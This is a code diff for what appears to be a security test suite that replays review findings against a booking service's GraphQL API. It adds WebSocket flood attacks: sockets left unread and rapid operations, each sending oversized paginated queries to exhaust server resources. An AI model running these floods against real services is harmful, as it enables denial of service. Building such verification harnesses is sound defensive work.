@@ -4,10 +4,11 @@ import type { AddressInfo } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { z } from 'zod';
 import type { Attacker, AttackRequest } from './client.ts';
+import { floodSockets, type SocketAttack } from './socket.ts';
 import { bobsBookingId, formatAttackKey, slotEventTypeId } from './world.ts';
 
 export interface Attack {
-  /** The finding of the security review. */
+  /** The finding of the security review, or the number of a decision. */
   finding: string;
   name: string;
   /** Returns a line about what the attacker got. */
@@ -26,10 +27,10 @@ const toGraphQL = (query: string, variables: object = {}, key?: string): AttackR
 const repeat = (count: number, line: (nth: number) => string) =>
   Array.from({ length: count }, (_, nth) => line(nth)).join(' ');
 
-/** Many pages of the heaviest records in one answer: 60 MB for each alias. */
-const askManyPages = (aliases: number) =>
+/** Many pages of the heaviest records in one answer: 60 MB for each alias of 500. */
+const askManyPages = (aliases: number, first = 500) =>
   toGraphQL(
-    `{ ${repeat(aliases, (nth) => `a${nth}: bookings(first: 500) { nodes { metadata responses } }`)} }`,
+    `{ ${repeat(aliases, (nth) => `a${nth}: bookings(first: ${first}) { nodes { metadata responses } }`)} }`,
     {},
     eve,
   );
@@ -161,6 +162,13 @@ const watch = async ({ holdStreams }: Attacker) => {
   return `${left} of 20 streams open after ${unreadSeconds} s`;
 };
 
+const sendOverSockets =
+  (attack: SocketAttack, time: number) =>
+  async ({ target }: Attacker) => {
+    const left = await floodSockets(target, attack, time);
+    return `${left} of ${attack.sockets} sockets open after ${time} s`;
+  };
+
 const emptyObjects = askTinyValues('{}');
 const zeros = askTinyValues('0');
 
@@ -186,4 +194,20 @@ export const attacks: readonly Attack[] = [
     run: floodWith(4, () => askSlots(25, 'days { date slots { start end } }', bob)),
   },
   { finding: 'M2', name: 'streams of slots', run: watch },
+  {
+    finding: '037',
+    name: 'WebSockets nobody reads',
+    run: sendOverSockets(
+      { sockets: 12, perSecond: 20, isRead: false, next: () => askManyPages(1, 100) },
+      unreadSeconds,
+    ),
+  },
+  {
+    finding: '037',
+    name: 'operations over a WebSocket',
+    run: sendOverSockets(
+      { sockets: 1, perSecond: 180, isRead: true, next: () => askManyPages(1) },
+      seconds,
+    ),
+  },
 ];
